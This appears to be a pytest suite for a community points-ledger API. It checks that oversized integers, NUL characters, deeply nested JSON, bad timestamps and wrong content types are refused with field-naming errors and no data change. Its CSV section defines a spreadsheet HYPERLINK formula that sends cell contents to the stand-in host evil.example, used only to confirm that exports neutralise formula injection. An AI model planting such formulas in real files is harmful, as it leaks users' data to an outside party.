"""No input crashes the server (issue 7, section 2): hostile or careless requests get a 4xx that names the field.

Every case here used to answer 500 (or to accept nonsense): integers beyond 64 bits, U+0000 in text, JSON
nested 10,000 deep, timestamps that overflow or carry no time zone, strings and floats taken as integers, bodies
that are not JSON, PostgreSQL's own words in an error. Each test asserts the status, the problem ``code``, that
the detail names the field in words, and that no row of any table changed (read as the owner).
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import asyncpg
import httpx
import pytest

import ledger
from ledger import errors
from ledger.model import MAX_METADATA_DEPTH, Line, NewEntry, check_entry
from points import csv_out
from points.errors import _data_problem
from points.members import importer
from tests.snapshots import snapshot as everything
from tests.test_api import API, Client, assert_problem, create_community, key, open_account, setup
from tests.test_bad_input import NoRoundTrip

BIG = 2**63  # one past PostgreSQL's bigint
HUGE = 10**30
NUL = "\x00"

Send = Callable[[], Awaitable[httpx.Response]]


async def refused(
    client: Client, owner: asyncpg.Connection, send: Send, status: int, code: str, *words: str
) -> dict[str, Any]:
    """Send the request; it is refused with ``status``/``code``, the detail says ``words``, nothing changed."""
    before = await everything(owner)
    r = await send()
    problem = await assert_problem(client, r, status, code)
    for word in words:
        assert word in problem["detail"], (word, problem)
    for driver_text in ("asyncpg", "violates", "invalid input for query argument", "SQLSTATE", "Traceback"):
        assert driver_text not in r.text, problem
    assert await everything(owner) == before, "a refused request changed a row"
    return problem


@pytest.fixture
async def book(client: Client) -> dict[str, Any]:
    """A community run by the operator, with an issuance account, a funded wallet, an entry, a hold and a member."""
    slug, issuance, wallet = await setup(client)
    r = await client.post(
        f"{API}/{slug}/holds",
        json={"account_id": wallet["id"], "counter_account_id": issuance["id"], "amount": 5, "timeout_s": 600},
        headers={"Idempotency-Key": key()},
    )
    assert r.status_code == 201, r.text
    hold = r.json()
    r = await client.post(f"{API}/{slug}/members", json={"display_name": "刘志强"})
    assert r.status_code == 201, r.text
    return {"slug": slug, "issuance": issuance, "wallet": wallet, "hold": hold, "member": r.json()}


def entry_body(b: dict[str, Any], **extra: Any) -> dict[str, Any]:
    postings = [{"account_id": b["issuance"]["id"], "amount": -3}, {"account_id": b["wallet"]["id"], "amount": 3}]
    return {"kind": "award", "postings": postings, **extra}


def post_json(client: Client, url: str, body: Any, **headers: str) -> Send:
    return lambda: client.post(url, json=body, headers={"Idempotency-Key": key(), **headers})


def post_raw(client: Client, url: str, content: bytes | str, content_type: str = "application/json") -> Send:
    return lambda: client.post(url, content=content, headers={"Idempotency-Key": key(), "Content-Type": content_type})


# ---- integers beyond 64 bits ----------------------------------------------------------------------


PATH_IDS = {
    # name -> (method, path template, the parameter the detail must name)
    "account": ("GET", "/accounts/{id}", "account_id"),
    "balance as of": ("GET", "/accounts/{id}/balance-as-of?at=2026-11-01T00:00:00Z", "account_id"),
    "history": ("GET", "/accounts/{id}/history", "account_id"),
    "entry": ("GET", "/entries/{id}", "entry_id"),
    "reversal": ("POST", "/entries/{id}/reversal", "entry_id"),
    "hold": ("GET", "/holds/{id}", "hold_id"),
    "post hold": ("POST", "/holds/{id}/post", "hold_id"),
    "void hold": ("POST", "/holds/{id}/void", "hold_id"),
    "member": ("GET", "/members/{id}", "member_id"),
    "member status": ("POST", "/members/{id}/status", "member_id"),
    "member roles": ("POST", "/members/{id}/roles", "member_id"),
}
PATH_BODIES = {"reversal": {"reason": "x"}, "member status": {"status": "active"}, "member roles": {"role": "clerk"}}


@pytest.mark.parametrize("value", [BIG, HUGE, 0])
@pytest.mark.parametrize("name", PATH_IDS)
async def test_path_ids_beyond_64_bits_are_400(
    client: Client, owner_conn: Any, book: dict[str, Any], name: str, value: int
) -> None:
    method, template, param = PATH_IDS[name]
    url = f"{API}/{book['slug']}{template.format(id=value)}"
    body = PATH_BODIES.get(name, {}) if method == "POST" else None

    def send() -> Awaitable[httpx.Response]:
        return client.request(method, url, json=body, headers={"Idempotency-Key": key()})

    await refused(client, owner_conn, send, 400, "invalid_request", param)


@pytest.mark.parametrize(
    ("path", "param"),
    [
        ("/api/v1/me/tokens/{id}/revoke", "token_id"),
        ("/api/v1/regions/{id}/admins", "region_id"),
    ],
)
async def test_platform_path_ids_beyond_64_bits_are_400(client: Client, owner_conn: Any, path: str, param: str) -> None:
    url = path.format(id=BIG)
    await refused(
        client, owner_conn, lambda: client.post(url, json={"phone": "13800000009"}), 400, "invalid_request", param
    )


@pytest.mark.parametrize(
    ("path", "param"), [("/accounts?after={}", "after"), ("/members?after={}", "after"), ("/audit?before={}", "before")]
)
@pytest.mark.parametrize("value", [str(BIG), str(HUGE), "1.0", "1e2", "-1"])
async def test_cursors_beyond_64_bits_or_not_digits_are_400(
    client: Client, owner_conn: Any, book: dict[str, Any], path: str, param: str, value: str
) -> None:
    url = f"{API}/{book['slug']}{path.format(value)}"
    await refused(client, owner_conn, lambda: client.get(url), 400, "invalid_request", f"query parameter {param}")


BODY_INTEGERS = {
    # name -> (path, body maker, the field the detail must name)
    "posting account_id": ("/entries", lambda b: entry_body(b) | {"postings": [
        {"account_id": BIG, "amount": -3}, {"account_id": b["wallet"]["id"], "amount": 3}]}, "postings[0].account_id"),
    "posting amount": ("/entries", lambda b: entry_body(b) | {"postings": [
        {"account_id": b["issuance"]["id"], "amount": -HUGE}, {"account_id": b["wallet"]["id"], "amount": HUGE}]},
        "postings[0].amount"),
    "lower_bound": ("/accounts", lambda b: {"code": "pool:big", "lower_bound": -BIG}, "lower_bound"),
    "upper_bound": ("/accounts", lambda b: {"code": "pool:big", "upper_bound": 2**64}, "upper_bound"),
    "hold account_id": ("/holds", lambda b: {"account_id": BIG, "counter_account_id": 1, "amount": 1}, "account_id"),
    "hold amount": ("/holds", lambda b: {"account_id": b["wallet"]["id"], "counter_account_id": b["issuance"]["id"],
                                          "amount": HUGE}, "amount"),
    "hold timeout_s": ("/holds", lambda b: {"account_id": b["wallet"]["id"], "counter_account_id": b["issuance"]["id"],
                                             "amount": 1, "timeout_s": HUGE}, "timeout_s"),
    "post hold amount": ("/holds/{hold}/post", lambda b: {"amount": HUGE}, "amount"),
    "member place_id": ("/members", lambda b: {"display_name": "新成员", "place_id": BIG}, "place_id"),
    "place parent_id": ("/places", lambda b: {"level": "grid", "name": "一网格", "parent_id": BIG}, "parent_id"),
    "role place_id": ("/members/{member}/roles", lambda b: {"role": "organizer", "place_id": BIG}, "place_id"),
}  # fmt: skip


@pytest.mark.parametrize("name", BODY_INTEGERS)
async def test_body_integers_beyond_their_limits_are_400(
    client: Client, owner_conn: Any, book: dict[str, Any], name: str
) -> None:
    path, make, field = BODY_INTEGERS[name]
    url = f"{API}/{book['slug']}{path.format(hold=book['hold']['id'], member=book['member']['id'])}"
    await refused(client, owner_conn, post_json(client, url, make(book)), 400, "invalid_request", field)


@pytest.mark.parametrize(
    ("url", "body", "field"),
    [
        ("/api/v1/regions", {"level": "street", "name": "某街道", "parent_id": BIG}, "parent_id"),
        ("/api/v1/me/tokens", {"name": "终端", "days": HUGE}, "days"),
    ],
)
async def test_platform_body_integers_beyond_their_limits_are_400(
    client: Client, owner_conn: Any, url: str, body: dict[str, Any], field: str
) -> None:
    await refused(client, owner_conn, post_json(client, url, body), 400, "invalid_request", field)


async def test_street_id_beyond_64_bits_is_400(client: Client, owner_conn: Any, book: dict[str, Any]) -> None:
    url = f"{API}/{book['slug']}/street"
    await refused(client, owner_conn, post_json(client, url, {"street_id": BIG}), 400, "invalid_request", "street_id")


@pytest.mark.parametrize("value", [str(BIG), str(HUGE), "1_0", " 7", "-1", "abc"])
async def test_on_behalf_of_must_be_a_member_id(
    client: Client, owner_conn: Any, book: dict[str, Any], value: str
) -> None:
    url = f"{API}/{book['slug']}/entries"
    send = post_json(client, url, entry_body(book), **{"X-On-Behalf-Of": value})
    await refused(client, owner_conn, send, 400, "invalid_request", "X-On-Behalf-Of")


# ---- strict decoding ------------------------------------------------------------------------------


@pytest.mark.parametrize("amount", ['"3"', "3.0", "3e0", "true"])
async def test_numbers_in_disguise_are_not_integers(
    client: Client, owner_conn: Any, book: dict[str, Any], amount: str
) -> None:
    """Lenient decoding took "3", 3.0 and 3e0 for 3; a client that sends them has a bug worth hearing about."""
    body = json.dumps(entry_body(book)).replace('"amount": 3}', f'"amount": {amount}}}')
    assert amount in body
    send = post_raw(client, f"{API}/{book['slug']}/entries", body)
    await refused(client, owner_conn, send, 400, "invalid_request", "postings[1].amount must be a whole number")


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""]
)
async def test_a_json_body_must_be_sent_as_json(
    client: Client, owner_conn: Any, book: dict[str, Any], content_type: str
) -> None:
    body = json.dumps(entry_body(book))
    send = post_raw(client, f"{API}/{book['slug']}/entries", body, content_type)
    await refused(client, owner_conn, send, 415, "unsupported_media_type", "application/json")


async def test_json_with_a_charset_is_json(client: Client, book: dict[str, Any]) -> None:
    """The control: the same body, named as JSON with a charset, posts."""
    body = json.dumps(entry_body(book))
    r = await post_raw(client, f"{API}/{book['slug']}/entries", body, "application/json; charset=utf-8")()
    assert r.status_code == 201, r.text


async def test_unknown_fields_are_named(client: Client, owner_conn: Any, book: dict[str, Any]) -> None:
    send = post_json(client, f"{API}/{book['slug']}/entries", entry_body(book, colour="red"))
    await refused(client, owner_conn, send, 400, "invalid_request", "colour")


# ---- U+0000 ---------------------------------------------------------------------------------------


NUL_CASES = {
    # name -> (path, body maker, the field the detail must name)
    "memo": ("/entries", lambda b: entry_body(b, memo=f"巡逻{NUL}"), "memo"),
    "metadata key": ("/entries", lambda b: entry_body(b, metadata={f"k{NUL}": 1}), "metadata key"),
    "metadata value deep down": (
        "/entries", lambda b: entry_body(b, metadata={"a": [{"b": f"x{NUL}"}]}), "metadata values"),
    "reversal reason": ("/entries/{entry}/reversal", lambda b: {"reason": f"录入{NUL}错误"}, "reason"),
    "hold memo": ("/holds", lambda b: {"account_id": b["wallet"]["id"], "counter_account_id": b["issuance"]["id"],
                                        "amount": 1, "memo": NUL}, "memo"),
    "member name": ("/members", lambda b: {"display_name": f"王{NUL}"}, "display_name"),
    "member phone": ("/members", lambda b: {"display_name": "王", "phone": f"138{NUL}"}, "phone"),
    "household label": ("/households", lambda b: {"label": f"3-201{NUL}"}, "label"),
    "member household": ("/members", lambda b: {"display_name": "王", "household": f"3-201{NUL}"}, "household"),
    "place name": ("/places", lambda b: {"level": "compound", "name": f"阳光{NUL}"}, "name"),
    "unit name": ("/units", lambda b: {"code": "minutes", "name": f"分钟{NUL}"}, "name"),
    "account name": ("/accounts", lambda b: {"code": "pool:x", "name": f"池{NUL}"}, "name"),
    "account unit": ("/accounts", lambda b: {"code": "pool:x", "unit": f"points{NUL}"}, "unit"),
    "role": ("/members/{member}/roles", lambda b: {"role": f"clerk{NUL}"}, "role"),
}  # fmt: skip


@pytest.mark.parametrize("name", NUL_CASES)
async def test_nul_in_text_is_400(client: Client, owner_conn: Any, book: dict[str, Any], name: str) -> None:
    path, make, field = NUL_CASES[name]
    entry = (await post_json(client, f"{API}/{book['slug']}/entries", entry_body(book))()).json()
    url = f"{API}/{book['slug']}{path.format(entry=entry['id'], member=book['member']['id'])}"
    await refused(client, owner_conn, post_json(client, url, make(book)), 400, "invalid_request", field, "U+0000")


@pytest.mark.parametrize(
    ("url", "body", "field"),
    [
        (API, {"slug": "nul-test", "name": f"社区{NUL}"}, "name"),
        (API, {"slug": "nul-admin", "name": "社区", "admin": {"display_name": f"王{NUL}", "phone": "13811112222"}},
         "admin.display_name"),
        ("/api/v1/me/tokens", {"name": f"终端{NUL}"}, "name"),
        ("/api/v1/regions", {"level": "city", "name": f"上海{NUL}"}, "name"),
    ],
)  # fmt: skip
async def test_nul_in_platform_text_is_400(
    client: Client, owner_conn: Any, url: str, body: dict[str, Any], field: str
) -> None:
    await refused(client, owner_conn, post_json(client, url, body), 400, "invalid_request", field, "U+0000")


async def test_nul_in_a_login_phone_is_400(anonymous_client: Client, owner_conn: Any) -> None:
    send = post_json(anonymous_client, "/api/v1/login", {"phone": f"138{NUL}", "password": "whatever-1"})
    await refused(anonymous_client, owner_conn, send, 400, "invalid_request", "phone", "U+0000")


async def test_nul_in_a_path_is_refused(client: Client, owner_conn: Any, book: dict[str, Any]) -> None:
    url = f"{API}/{book['slug']}/members/{book['member']['id']}/roles/clerk%00/revoke"
    await refused(client, owner_conn, lambda: client.post(url), 400, "invalid_request", "role")
    r = await client.get(f"{API}/bad%00slug/accounts")
    await assert_problem(client, r, 404, "community_not_found")


async def test_nul_in_a_csv_cell_is_a_bad_row(client: Client, owner_conn: Any, book: dict[str, Any]) -> None:
    before = await everything(owner_conn)
    content = f"name,phone,household\n王{NUL}英,,3-201\n李建国,,3-202\n".encode()
    r = await client.post(
        f"{API}/{book['slug']}/members/import?dry_run=false", content=content, headers={"Content-Type": "text/csv"}
    )
    assert r.status_code == 200, r.text
    report = r.json()
    assert (report["ok"], report["imported"]) == (False, 0), report
    assert [(e["line"], e["problems"]) for e in report["errors"]] == [
        (2, ["name must not contain the NUL character (U+0000)"])
    ]
    assert [(p["key"], p["code"]) for p in report["errors"][0]["errors"]] == [("name", "contains_nul")]
    assert await everything(owner_conn) == before


# ---- deep JSON ------------------------------------------------------------------------------------


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth - 1):
        value = {"a": value}
    return {"a": value} if depth else value


async def test_json_nested_10000_deep_is_400(client: Client, owner_conn: Any, book: dict[str, Any]) -> None:
    """msgspec raised RecursionError (a 500) on this; it is refused before Litestar reads the body."""
    deep = "[" * 10_000 + "]" * 10_000
    body = json.dumps(entry_body(book)).replace('"postings"', f'"metadata": {{"x": {deep}}}, "postings"')
    send = post_raw(client, f"{API}/{book['slug']}/entries", body)
    await refused(client, owner_conn, send, 400, "invalid_request", "nests too deeply")
    # Where the Struct expects text, decoding stops at the first wrong type, long before any depth matters.
    member = '{"display_name": "王", "roles": ' + deep + "}"
    send = post_raw(client, f"{API}/{book['slug']}/members", member)
    await refused(client, owner_conn, send, 400, "invalid_request", "roles[0] must be text")


async def test_metadata_depth_is_limited(client: Client, owner_conn: Any, book: dict[str, Any]) -> None:
    url = f"{API}/{book['slug']}/entries"
    too_deep = entry_body(book, metadata=nested(MAX_METADATA_DEPTH + 1))
    await refused(client, owner_conn, post_json(client, url, too_deep), 400, "invalid_request", "metadata", "8 levels")
    r = await post_json(client, url, entry_body(book, metadata=nested(MAX_METADATA_DEPTH)))()
    assert r.status_code == 201, r.text


# ---- times ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("effective_at", "words"),
    [
        ("9999-12-31T23:59:59-14:00", "from 2000-01-01 up to 2100-01-01"),
        ("0001-01-01T00:00:00Z", "from 2000-01-01 up to 2100-01-01"),
        ("2100-01-01T00:00:00Z", "from 2000-01-01 up to 2100-01-01"),
        ("2026-11-01T09:00:00", "time zone"),
        ("yesterday", "a date and time"),
    ],
)
async def test_absurd_or_naive_effective_at_is_400(
    client: Client, owner_conn: Any, book: dict[str, Any], effective_at: str, words: str
) -> None:
    send = post_json(client, f"{API}/{book['slug']}/entries", entry_body(book, effective_at=effective_at))
    await refused(client, owner_conn, send, 400, "invalid_request", "effective_at", words)


@pytest.mark.parametrize(
    ("at", "words"),
    [
        ("9999-12-31T23:59:59-14:00", "from 2000-01-01"),
        ("0001-01-01T00:00:00Z", "from 2000-01-01"),
        ("2026-11-01T09:00:00", "time zone"),
    ],
)
async def test_absurd_or_naive_balance_as_of_is_400(
    client: Client, owner_conn: Any, book: dict[str, Any], at: str, words: str
) -> None:
    url = f"{API}/{book['slug']}/accounts/{book['wallet']['id']}/balance-as-of"
    await refused(client, owner_conn, lambda: client.get(url, params={"at": at}), 400, "invalid_request", "at", words)


async def test_a_time_in_another_zone_is_read_in_that_zone(client: Client, book: dict[str, Any]) -> None:
    """The control: a time with its zone posts and reads back as the same instant."""
    r = await post_json(
        client, f"{API}/{book['slug']}/entries", entry_body(book, effective_at="2026-11-01T09:00:00+08:00")
    )()
    assert r.status_code == 201, r.text
    assert datetime.fromisoformat(r.json()["effective_at"]) == datetime(2026, 11, 1, 1, 0, tzinfo=UTC)


# ---- errors in words ------------------------------------------------------------------------------


async def test_a_taken_code_is_said_in_words(client: Client, owner_conn: Any) -> None:
    slug = await create_community(client)
    await open_account(client, slug, "pool:1")
    send = post_json(client, f"{API}/{slug}/accounts", {"code": "pool:1"})
    problem = await refused(client, owner_conn, send, 409, "duplicate_code", "already has an account 'pool:1'")
    assert problem["field"] == "code"
    send = post_json(client, API, {"slug": slug, "name": "又一个"})
    problem = await refused(client, owner_conn, send, 409, "duplicate_code", "slug")
    send = post_json(client, f"{API}/{slug}/units", {"code": "points", "name": "积分"})
    await refused(client, owner_conn, send, 409, "duplicate_code", "unit")


async def test_an_unknown_unit_is_unit_not_found(client: Client, owner_conn: Any) -> None:
    slug = await create_community(client)
    send = post_json(client, f"{API}/{slug}/accounts", {"code": "bank:1", "unit": "tokens"})
    problem = await refused(client, owner_conn, send, 404, "unit_not_found", "unit 'tokens'")
    assert problem["field"] == "unit"


def test_the_net_under_the_checks_says_no_driver_text() -> None:
    """A DataError no check foresaw (SQLSTATE 22xxx) is a 400 in words, never the driver's message."""
    exc = asyncpg.exceptions.DataError("invalid input for query argument $1: 99999 (value out of int64 range)")
    problem = _data_problem(exc)
    assert problem.status_code == 400
    assert problem.extra == {"code": "invalid_request"}
    assert problem.detail
    assert "int64" not in problem.detail
    assert "argument" not in problem.detail


# ---- the ledger checks its own arguments ------------------------------------------------------------


def _entry(**kw: Any) -> NewEntry:
    return NewEntry("transfer", (Line(1, -5), Line(2, 5)), f"k-{uuid.uuid4()}", **kw)


@pytest.mark.parametrize(
    ("entry", "phrase"),
    [
        (NewEntry("transfer", (Line(BIG, -5), Line(2, 5)), "k"), "account_id"),
        (NewEntry("transfer", (Line(0, -5), Line(2, 5)), "k"), "account_id"),
        (_entry(memo=f"a{NUL}"), "memo must not contain the NUL character"),
        (_entry(actor=f"member:1{NUL}"), "actor must not contain"),
        (_entry(metadata={f"k{NUL}": 1}), "metadata keys"),
        (_entry(metadata={"k": [[f"v{NUL}"]]}), "metadata values"),
        (_entry(metadata={"k": float("nan")}), "finite"),
        (_entry(metadata={"k": datetime.now(UTC)}), "metadata values are JSON"),
        (_entry(metadata=nested(10_000)), "8 levels"),
        (_entry(effective_at=datetime(9999, 12, 31, 23, 59, 59, tzinfo=timezone(timedelta(hours=-14)))), "2100"),
        (_entry(effective_at=datetime(1, 1, 1, tzinfo=UTC)), "2000-01-01"),
        (_entry(effective_at=datetime(2026, 11, 1)), "time zone"),
    ],
)
async def test_the_ledger_refuses_bad_arguments_before_any_round_trip(entry: NewEntry, phrase: str) -> None:
    assert any(phrase in p for p in check_entry(entry)), check_entry(entry)
    with pytest.raises(errors.InvalidEntry) as info:
        await ledger.post_entry(NoRoundTrip(), 1, entry)
    assert any(phrase in p for p in info.value.problems)


async def test_the_ledgers_other_functions_refuse_bad_arguments() -> None:
    c = NoRoundTrip()
    hold = {"counter_account_id": 2, "amount": 1, "kind": "swap", "timeout_s": 60, "idempotency_key": "h"}
    calls: list[tuple[Awaitable[Any], str]] = [
        (ledger.balance(c, 1, BIG), "account_id"),
        (ledger.get_account(c, 1, BIG), "account_id"),
        (ledger.place_hold(c, 1, account_id=BIG, **hold), "account_id"),
        (ledger.post_hold(c, 1, BIG, idempotency_key="p"), "hold_id"),
        (ledger.void_hold(c, 1, BIG), "hold_id"),
        (ledger.reverse_entry(c, 1, BIG, reason="x", idempotency_key="r"), "entry_id"),
        (ledger.reverse_entry(c, 1, 1, reason=f"x{NUL}", idempotency_key="r"), "reason must not contain"),
        (ledger.open_account(c, 1, "pool:x", lower_bound=-(2**64)), "lower_bound"),
        (ledger.open_account(c, 1, "pool:x", name=f"x{NUL}"), "account name must not contain"),
        (ledger.open_account(c, 1, "pool:x", unit=f"points{NUL}"), "unit code"),
        (ledger.create_community(c, "fine-slug", f"x{NUL}"), "a name must not contain"),
        (ledger.queries.balance_as_of(c, 1, 1, datetime(1, 1, 1, tzinfo=UTC)), "at must be from"),
        (ledger.queries.get_entry(c, 1, BIG), "entry_id"),
        (ledger.queries.balances(c, 1, after_id=BIG), "after"),
    ]
    for call, phrase in calls:
        with pytest.raises(errors.InvalidEntry) as info:
            await call
        assert any(phrase in p for p in info.value.problems), (phrase, info.value.problems)


# ---- CSV ------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


async def test_a_formula_name_is_stored_as_given_and_exported_inert(client: Client, owner_conn: Any) -> None:
    slug = await create_community(client)
    made = []
    for body in (
        {"display_name": FORMULA, "household": "-1", "roles": ["volunteer", "clerk"]},
        {"display_name": "+王秀英", "phone": "+8613811110000"},
        {"display_name": "@李建国"},
        {"display_name": "-张桂兰"},  # names are stripped when stored, so no leading tab or CR survives to export
        {"display_name": "刘志强", "household": "3-201"},
    ):
        r = await client.post(f"{API}/{slug}/members", json=body)
        assert r.status_code == 201, r.text
        made.append(r.json())
    stored = await owner_conn.fetchval("SELECT display_name FROM points.members WHERE id = $1", made[0]["id"])
    assert stored == FORMULA, "stored as given"

    r = await client.get(f"{API}/{slug}/members/export")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads UTF-8"
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0] == ["name", "phone", "household", "roles"]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["'" + FORMULA] == ["'" + FORMULA, "", "'-1", "clerk;volunteer"]
    assert by_name["'+王秀英"][1] == "'+8613811110000"
    assert "'@李建国" in by_name
    assert "'-张桂兰" in by_name
    assert by_name["刘志强"][2] == "3-201", "ordinary text is untouched"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(csv_out.FORMULA_STARTS), f"a live formula in {row}"

    # The file imports back as it was stored (dry run into a fresh community: nobody there yet).
    text = importer.decode(r.content)
    parsed, bad = importer.parse(text)
    assert bad == []
    read_back = {row.name: row for row in parsed}
    assert read_back[FORMULA].household == "-1"
    assert read_back[FORMULA].roles == ("clerk", "volunteer")
    assert read_back["+王秀英"].phone == "+8613811110000"
    other = await create_community(client)
    before = await everything(owner_conn)
    r = await client.post(f"{API}/{other}/members/import", content=r.content, headers={"Content-Type": "text/csv"})
    assert r.status_code == 200, r.text
    report = r.json()
    # The one complaint: the operator, admin of both communities, is a member there already.
    admin_line = 2 + [row[0] for row in rows[1:]].index("管理员")
    assert (report["dry_run"], report["rows"], report["imported"]) == (True, len(rows) - 1, 0)
    assert [(e["line"], e["problems"]) for e in report["errors"]] == [
        (admin_line, ["phone 199****0000 is already a member"])
    ], report
    assert [(p["key"], p["code"]) for p in report["errors"][0]["errors"]] == [("phone", "taken")]
    assert await everything(owner_conn) == before, "a dry run writes nothing"


async def test_only_admins_export_the_register(anonymous_client: Client, client: Client) -> None:
    slug = await create_community(client)
    r = await anonymous_client.get(f"{API}/{slug}/members/export")
    await assert_problem(anonymous_client, r, 401, "unauthorized")


def test_numbers_stay_numbers_and_text_is_made_inert() -> None:
    out = csv_out.write_csv(["name", "points"], [["-5", -5], ["=1+1", 10], ["普通", None]])
    assert out.startswith(csv_out.BOM.encode())
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"))))
    assert rows == [["name", "points"], ["'-5", "-5"], ["'=1+1", "10"], ["普通", ""]]
    assert [csv_out.unescape_cell(r[0]) for r in rows[1:]] == ["-5", "=1+1", "普通"]
